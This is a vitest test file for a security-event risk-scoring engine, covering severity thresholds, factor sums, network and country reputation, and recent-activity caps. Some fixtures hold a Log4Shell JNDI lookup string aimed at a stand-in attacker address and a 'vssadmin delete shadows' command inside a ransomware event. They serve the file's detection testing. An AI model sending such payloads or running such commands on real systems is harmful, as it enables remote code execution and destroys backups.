import { describe, expect, it } from 'vitest';
import { DEFAULT_DETECTION_CONFIG, DetectionConfigSchema } from './config';
import { EVENT_TYPES, parseEvent, SEVERITIES, type EventType, type SecurityEvent, type Severity } from './event';
import { analyseWithRules } from './rules';
import { RECENT_ACTIVITY_MAX_POINTS, RECENT_ACTIVITY_SATURATION, scoreRisk, SEVERITY_THRESHOLDS, severityForScore, type RiskInput } from './scoring';
import { RiskSchema, type Analysis, type Geo, type NetworkZone, type Risk } from './threat';

const SEED = {
  event_id: 'test-001',
  timestamp: '2025-12-27T19:00:00Z',
  event_type: 'brute_force',
  source_ip: '185.234.72.91',
  destination_ip: '10.0.0.100',
  destination_port: 22,
  protocol: 'TCP',
  payload: { attempts: 150 },
};
/** What enrichment gives the seed's addresses with the real databases and default config. */
const SEED_SOURCE: Geo = { ip: '185.234.72.91', zone: 'public', criticalAsset: false, country: 'DE', city: 'Heusweiler', asn: 213250, org: 'ITP-Solutions' };
const SEED_DESTINATION: Geo = { ip: '10.0.0.100', zone: 'private', criticalAsset: true };

function event(fields: Record<string, unknown>): SecurityEvent {
  const parsed = parseEvent({ ...SEED, ...fields });
  if (!parsed.ok) throw new Error(parsed.reason);
  return parsed.event;
}

/** Scores an event the way assessEvent does, with hand-made enrichment. */
function score(fields: Record<string, unknown>, source: Geo, destination: Geo | undefined, recentActivity = 0, config = DEFAULT_DETECTION_CONFIG): Risk {
  const securityEvent = event(fields);
  const analysis = analyseWithRules(securityEvent, { source, destination });
  return scoreRisk({ event: securityEvent, analysis, source, destination, recentActivity, config });
}

const sumOf = (risk: Risk) => risk.factors.reduce((total, factor) => total + factor.contribution, 0);
const factor = (risk: Risk, name: string) => risk.factors.find((candidate) => candidate.name === name);

describe('sensor alert types', () => {
  const ATTACKER: Geo = { ip: '203.0.113.9', zone: 'public', criticalAsset: false };
  const WEB_SERVER: Geo = { ip: '10.0.0.100', zone: 'private', criticalAsset: false };
  const web = { destination_ip: '10.0.0.100', destination_port: 80, source_ip: '203.0.113.9' };

  it('scores a served Log4Shell exploit from the internet at least HIGH, from the exploit type and its evidence', () => {
    const risk = score({ ...web, event_type: 'exploit', payload: { url: '/?q=${jndi:ldap://203.0.113.9/a}', signature: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', status_code: 200 } }, ATTACKER, WEB_SERVER);
    expect(factor(risk, 'event_type')?.detail).toMatch(/^exploit starts at 35 points/);
    expect(factor(risk, 'evidence')?.contribution).toBeGreaterThan(20);
    expect(['HIGH', 'CRITICAL']).toContain(risk.severity);
    expect(sumOf(risk)).toBe(risk.score);
  });

  it('ranks, for the same request and ends: command injection and exploit over path traversal over reconnaissance, policy and anomaly', () => {
    const scoreOf = (type: EventType) => score({ ...web, event_type: type, payload: {} }, ATTACKER, WEB_SERVER).score;
    expect(scoreOf('command_injection')).toBe(scoreOf('exploit'));
    expect(scoreOf('exploit')).toBeGreaterThan(scoreOf('path_traversal'));
    expect(scoreOf('path_traversal')).toBeGreaterThan(scoreOf('reconnaissance'));
    expect(scoreOf('reconnaissance')).toBe(scoreOf('policy_violation'));
    expect(scoreOf('policy_violation')).toBe(scoreOf('protocol_anomaly'));
    expect(scoreOf('protocol_anomaly')).toBeGreaterThan(scoreOf('unknown'));
  });

  it('keeps a policy violation from the internet without evidence LOW or below', () => {
    const risk = score({ ...web, event_type: 'policy_violation', destination_port: 9001, payload: {} }, ATTACKER, WEB_SERVER);
    expect(['LOW', 'INFO']).toContain(risk.severity);
  });
});

describe('severityForScore', () => {
  it.each<[number, Severity]>([
    [0, 'INFO'],
    [19, 'INFO'],
    [20, 'LOW'],
    [39, 'LOW'],
    [40, 'MEDIUM'],
    [64, 'MEDIUM'],
    [65, 'HIGH'],
    [84, 'HIGH'],
    [85, 'CRITICAL'],
    [100, 'CRITICAL'],
  ])('%s is %s', (value, severity) => {
    expect(severityForScore(value)).toBe(severity);
  });

  it('exports thresholds for every severity, highest first', () => {
    expect(SEVERITY_THRESHOLDS.map((threshold) => threshold.severity)).toEqual([...SEVERITIES]);
    const minimums = SEVERITY_THRESHOLDS.map((threshold) => threshold.minScore);
    expect(minimums).toEqual([85, 65, 40, 20, 0]);
  });
});

describe('scoreRisk: calibration', () => {
  it('scores the seed event HIGH or CRITICAL, explaining why', () => {
    const risk = score({}, SEED_SOURCE, SEED_DESTINATION);
    expect(['HIGH', 'CRITICAL']).toContain(risk.severity);
    expect(risk.factors.map((entry) => entry.name)).toEqual(['event_type', 'evidence', 'target_port', 'critical_asset', 'direction']);
    expect(factor(risk, 'target_port')).toEqual({ name: 'target_port', contribution: 8, detail: 'port 22 (SSH): remote administration: a foothold gives interactive control' });
    expect(factor(risk, 'evidence')?.detail).toBe('evidence strength 0.74: attempts=150');
  });

  it('scores a ransomware event with encrypted files CRITICAL, even with one file and no destination', () => {
    const host: Geo = { ip: '10.0.0.23', zone: 'private', criticalAsset: false };
    for (const files of [1, 12, 40_000]) {
      const risk = score({ event_type: 'ransomware', source_ip: host.ip, destination_ip: undefined, destination_port: undefined, payload: { files_encrypted: files } }, host, undefined);
      expect(risk.severity, `${files} files`).toBe('CRITICAL');
    }
  });

  it('scores a benign-looking event LOW or INFO', () => {
    const inside: Geo = { ip: '10.0.0.5', zone: 'private', criticalAsset: false };
    const other: Geo = { ip: '10.0.0.6', zone: 'private', criticalAsset: false };
    const risk = score({ event_type: 'something_odd', source_ip: inside.ip, destination_ip: other.ip, destination_port: 8080, payload: {} }, inside, other);
    expect(['LOW', 'INFO']).toContain(risk.severity);
    expect(risk.score).toBeLessThan(20);
  });

  it('scores an unknown event with no destination INFO', () => {
    const inside: Geo = { ip: '10.0.0.5', zone: 'private', criticalAsset: false };
    expect(score({ event_type: 'heartbeat', source_ip: inside.ip, destination_ip: undefined, destination_port: undefined, payload: {} }, inside, undefined).severity).toBe('INFO');
  });
});

describe('scoreRisk: factors', () => {
  const inside: Geo = { ip: '10.0.0.7', zone: 'private', criticalAsset: false };
  const outside: Geo = { ip: '5.188.86.10', zone: 'public', criticalAsset: false, country: 'NL', asn: 49453 };

  it.each<[string, NetworkZone, NetworkZone, string | undefined]>([
    ['internet to inside', 'public', 'private', 'from the internet into the private network'],
    ['internet to internal range', 'public', 'internal', 'from the internet into the internal network'],
    ['inside to inside', 'private', 'private', 'between internal hosts: possible lateral movement'],
    ['internet to internet', 'public', 'public', undefined],
    ['inside to internet (not an outbound type)', 'private', 'public', undefined],
  ])('direction: %s', (_name, sourceZone, destinationZone, detail) => {
    const risk = score({}, { ...outside, zone: sourceZone }, { ...inside, zone: destinationZone });
    expect(factor(risk, 'direction')?.detail).toBe(detail);
  });

  it('scores data leaving an internal host outbound, and rates the remote party rather than the source', () => {
    const config = DetectionConfigSchema.parse({ highRiskAsns: [49453], highRiskCountries: ['NL'] });
    const risk = score({ event_type: 'data_exfiltration', source_ip: inside.ip, destination_ip: outside.ip, destination_port: 443, payload: { bytes_out: 1e9 } }, inside, outside, 0, config);
    expect(factor(risk, 'direction')?.contribution).toBe(10);
    expect(factor(risk, 'network_reputation')?.detail).toBe('5.188.86.10 is in AS49453, a listed high-risk network');
    expect(factor(risk, 'country_reputation')?.detail).toBe('5.188.86.10 is located in NL, a listed high-risk country');
    expect(factor(risk, 'target_port')).toBeUndefined(); // 443 is where the data went, not a service attacked
  });

  it('adds reputation points for listed networks and countries of an attacking source', () => {
    const listed = DetectionConfigSchema.parse({ highRiskAsns: [213250], highRiskCountries: ['DE'] });
    const plain = score({}, SEED_SOURCE, SEED_DESTINATION);
    const flagged = score({}, SEED_SOURCE, SEED_DESTINATION, 0, listed);
    expect(flagged.score - plain.score).toBe(12 + 8);
  });

  it('gives no reputation to private sources, whatever the lists say', () => {
    const config = DetectionConfigSchema.parse({ highRiskCountries: ['DE'] });
    const risk = score({}, { ...SEED_SOURCE, zone: 'private' }, SEED_DESTINATION, 0, config);
    expect(factor(risk, 'country_reputation')).toBeUndefined();
  });

  it('counts a critical source when the destination is not critical', () => {
    const risk = score({ event_type: 'c2_beacon', payload: {} }, { ...inside, criticalAsset: true }, outside);
    expect(factor(risk, 'critical_asset')).toEqual({ name: 'critical_asset', contribution: 12, detail: 'the source 10.0.0.7 is a critical asset' });
  });

  it('weights the event type by the confidence of the analysis', () => {
    const securityEvent = event({});
    const base = analyseWithRules(securityEvent, { source: SEED_SOURCE, destination: SEED_DESTINATION });
    const risk = (analysis: Analysis) => scoreRisk({ event: securityEvent, analysis, source: SEED_SOURCE, destination: SEED_DESTINATION, recentActivity: 0, config: DEFAULT_DETECTION_CONFIG });
    expect(factor(risk({ ...base, confidence: 0 }), 'event_type')?.contribution).toBe(15);
    expect(factor(risk({ ...base, confidence: 1 }), 'event_type')?.contribution).toBe(25);
    expect(factor(risk({ ...base, evidenceStrength: 0 }), 'evidence')).toBeUndefined();
  });
});

describe('scoreRisk: arithmetic', () => {
  const zones: NetworkZone[] = ['public', 'private', 'internal', 'reserved', 'loopback'];
  const payloads: Record<string, unknown>[] = [{}, { attempts: 5000, files_encrypted: 9000, bytes_out: 1e11, pps: 1e8, beacons: 900, interval: 60, jitter: 0.01, framework: 'Cobalt Strike' }];
  const hot = DetectionConfigSchema.parse({ highRiskAsns: [213250], highRiskCountries: ['DE'] });
  const cases = EVENT_TYPES.flatMap((type) =>
    zones.flatMap((sourceZone) =>
      payloads.flatMap((payload) =>
        [0, 3, 500].map((recentActivity) => [type, sourceZone, payload, recentActivity] as [EventType, NetworkZone, Record<string, unknown>, number]),
      ),
    ),
  );

  it.each(cases)('%s from a %s source: factors sum to the score (payload %#, %s recent)', (type, sourceZone, payload, recentActivity) => {
    const destination: Geo = { ...SEED_DESTINATION };
    const risk = score({ event_type: type, payload }, { ...SEED_SOURCE, zone: sourceZone }, destination, recentActivity, hot);
    expect(RiskSchema.parse(risk)).toEqual(risk);
    expect(sumOf(risk)).toBe(risk.score);
    for (const entry of risk.factors) {
      expect(Number.isInteger(entry.contribution)).toBe(true);
      expect(entry.detail.length).toBeGreaterThan(0);
    }
    expect(risk.severity).toBe(severityForScore(risk.score));
  });

  it('caps at 100 with a "cap" factor that makes the sum exact', () => {
    const risk = score(
      { event_type: 'ransomware', destination_port: 445, payload: { files_encrypted: 9000, command_line: 'vssadmin delete shadows' } },
      SEED_SOURCE,
      SEED_DESTINATION,
      1000,
      DetectionConfigSchema.parse({ highRiskAsns: [213250], highRiskCountries: ['DE'] }),
    );
    const cap = factor(risk, 'cap')!;
    expect(risk.score).toBe(100);
    expect(cap.contribution).toBeLessThan(0);
    expect(cap.detail).toBe(`factors add up to ${100 - cap.contribution}; the score is capped at 100`);
    expect(risk.factors.at(-1)).toBe(cap);
    expect(sumOf(risk)).toBe(100);
  });

  it('has no cap factor when the sum is within range', () => {
    expect(factor(score({}, SEED_SOURCE, SEED_DESTINATION), 'cap')).toBeUndefined();
  });
});

describe('scoreRisk: recent activity', () => {
  const riskWith = (recentActivity: number) => score({}, SEED_SOURCE, SEED_DESTINATION, recentActivity);

  it('never lowers the score as earlier events pile up, with diminishing returns and a cap', () => {
    let previous = riskWith(0).score;
    const gains: number[] = [];
    for (const recent of [1, 2, 3, 5, 8, 13, 50, 1000, 1e9]) {
      const current = riskWith(recent).score;
      expect(current).toBeGreaterThanOrEqual(previous);
      gains.push(current - previous);
      previous = current;
    }
    expect(gains[0]).toBe(5); // the first earlier event
    expect(riskWith(1e9).score - riskWith(0).score).toBe(RECENT_ACTIVITY_MAX_POINTS);
  });

  it('says how many earlier events, over which window', () => {
    expect(factor(riskWith(1), 'recent_activity')?.detail).toBe('1 earlier event from 185.234.72.91 in the last 15 min');
    expect(factor(riskWith(6), 'recent_activity')?.detail).toBe('6 earlier events from 185.234.72.91 in the last 15 min');
  });

  it('reaches its cap at the count ingest counts up to, and says "at least" from there', () => {
    expect(RECENT_ACTIVITY_SATURATION).toBe(7);
    expect(factor(riskWith(RECENT_ACTIVITY_SATURATION - 1), 'recent_activity')!.contribution).toBeLessThan(RECENT_ACTIVITY_MAX_POINTS);
    for (const recent of [RECENT_ACTIVITY_SATURATION, RECENT_ACTIVITY_SATURATION * 10]) {
      expect(factor(riskWith(recent), 'recent_activity')).toMatchObject({
        contribution: RECENT_ACTIVITY_MAX_POINTS,
        detail: `at least ${RECENT_ACTIVITY_SATURATION} earlier events from 185.234.72.91 in the last 15 min`,
      });
    }
  });

  it.each([0, -3, Number.NaN, Number.POSITIVE_INFINITY, 0.5])('adds nothing for %s', (recentActivity) => {
    expect(factor(riskWith(recentActivity), 'recent_activity')).toBeUndefined();
    expect(riskWith(recentActivity).score).toBe(riskWith(0).score);
  });
});

describe('scoreRisk: inputs from another engine', () => {
  it('clamps out-of-range confidence and strength instead of scoring past them', () => {
    const securityEvent = event({});
    const analysis = analyseWithRules(securityEvent, { source: SEED_SOURCE, destination: SEED_DESTINATION });
    const input: RiskInput = {
      event: securityEvent,
      analysis: { ...analysis, engine: 'gemini', confidence: 7, evidenceStrength: -2 },
      source: SEED_SOURCE,
      destination: SEED_DESTINATION,
      recentActivity: 0,
      config: DEFAULT_DETECTION_CONFIG,
    };
    const risk = scoreRisk(input);
    expect(factor(risk, 'event_type')?.contribution).toBe(25);
    expect(factor(risk, 'evidence')).toBeUndefined();
    expect(sumOf(risk)).toBe(risk.score);
  });
});
